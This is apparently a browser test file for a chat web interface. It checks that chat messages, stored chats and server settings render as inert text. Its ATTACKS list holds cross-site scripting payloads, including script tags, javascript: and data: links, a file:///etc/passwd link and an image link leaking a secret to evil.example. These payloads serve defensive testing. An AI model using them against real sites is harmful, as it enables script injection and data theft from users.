"""Text of a model or a user is text: it runs nothing, loads nothing, leads nowhere unasked.

The fixture fails every test that saw a dialog, a violation of the policy, or a request to another server.
"""

from __future__ import annotations

import json
from collections.abc import Callable

from tests.browser.mock_server import MockServer
from tests.browser.tab import Tab

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
    "[a](javascript:alert(1))",
    "[a]( jAvAsCrIpT:alert(1) )",
    "[a](java\tscript:alert(1))",
    "[a](data:text/html,<script>alert(1)</script>)",
    "[a](vbscript:x) [b](file:///etc/passwd) [c](//evil.example/x) [d](blob:http://x/y)",
    "![x](http://evil.example/leak.png?secret)",
    "![x](javascript:alert(1))",
    "<https://evil.example/\" onmouseover=alert(1)>",
    "https://evil.example/\"onmouseover=alert(1)//",
    "[x](http://evil.example/'onmouseover='alert(1))",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "```\"><img src=x onerror=alert(1)>\ncode\n```",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "# <img src=x onerror=alert(1)>",
    "- <img src=x onerror=alert(1)>\n> <script>alert(1)</script>",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
    "{{constructor.constructor('alert(1)')()}}",
    "__proto__ constructor ${alert(1)}",
]  # fmt: skip


def test_attacks_as_answers_questions_and_titles(tab: Tab, server: MockServer) -> None:
    for attack in ATTACKS:
        server.steps = [attack[i : i + 5] for i in range(0, len(attack), 5)]
        tab.send(attack)
    assert tab.questions() == ATTACKS
    allowed = {
        "P", "STRONG", "EM", "DEL", "A", "CODE", "PRE", "FIGURE", "FIGCAPTION", "SPAN", "BUTTON", "svg", "use", "DIV",
        "TABLE", "THEAD", "TBODY", "TR", "TH", "TD", "UL", "LI", "BLOCKQUOTE", "H1",
    }  # fmt: skip
    elements = "[...new Set([...document.querySelectorAll('.body *')].map((element) => element.tagName))]"
    assert set(tab.page.evaluate(elements)) <= allowed
    attributes = (
        "[...new Set([...document.querySelectorAll('.body *')].flatMap((element) => element.getAttributeNames()))]"
    )
    known = {
        "href", "rel", "target", "title", "class", "tabindex", "type", "data-hint", "aria-label", "aria-hidden",
    }  # fmt: skip
    assert set(tab.page.evaluate(attributes)) <= known
    links = tab.page.evaluate("[...document.querySelectorAll('.body a')].map((a) => [a.protocol, a.rel, a.target])")
    assert len(links) >= 3
    assert {tuple(link) for link in links} == {
        ("http:", "noopener noreferrer", "_blank"),
        ("https:", "noopener noreferrer", "_blank"),
    }
    for text in (
        "<img src=x onerror=alert(1)>",
        "[a](javascript:alert(1))",
        "![x](javascript:alert(1))",
        "<svg/onload=alert(1)>",
    ):
        assert text in tab.answers()


def test_attacks_in_what_is_kept(open_tab: Callable[..., Tab]) -> None:
    lines = []
    for attack in ATTACKS:
        identity = f"{len(lines):02}"
        message = {"id": "m", "parent": None, "role": "user", "content": attack}
        answer = {
            "id": "n", "parent": "m", "role": "assistant", "content": attack, "status": "error",
            "error": {"kind": "refused", "message": attack, "status": 400}, "seed": attack,
            "usage": {"prompt_tokens": attack},
        }  # fmt: skip
        messages = {"m": message, "n": answer}
        kept = {"id": identity, "title": attack, "system": attack, "changed": 1, "leaf": "n", "messages": messages}
        lines.append(f"localStorage.setItem('bc2.chat.{identity}', {json.dumps(json.dumps(kept))});")
    tab = open_tab(before="".join(lines))
    assert sorted(tab.page.locator("#chats .title").all_text_contents()) == sorted(ATTACKS)
    for number in range(len(ATTACKS)):
        tab.page.locator("#chats .title").nth(number).click()
        attack = tab.page.text_content("#title")
        assert tab.questions() == [attack]
        assert (tab.page.text_content(".state.error") or "").startswith(attack or "?")
    tab.page.locator("#chats li").last.get_by_role("button", name="Delete").click()
    assert attack in (tab.page.text_content("#toast") or "")


def test_attacks_from_the_server_outside_of_answers(tab: Tab, server: MockServer) -> None:
    attack = ATTACKS[0]
    settings = {
        "model": attack,
        "max_model_len": attack,
        "chat": {"temperature": attack},
        "limits": {"messages": 9, "body_bytes": 9999},
    }
    tab.page.route("**/settings", lambda route: route.fulfill(json=settings))
    tab.page.reload()
    tab.wait_text("#model", attack)
    tab.wait_equal(lambda: tab.page.get_attribute("#field-temperature", "placeholder"), attack)


def test_the_page_has_no_inline_code_and_names_no_other_server(tab: Tab) -> None:
    source = tab.page.evaluate("fetch('/').then((response) => response.text())")
    assert "style=" not in source and "<style" not in source and "onclick" not in source and "http" not in source
    assert tab.page.locator("script:not([src])").count() == 0
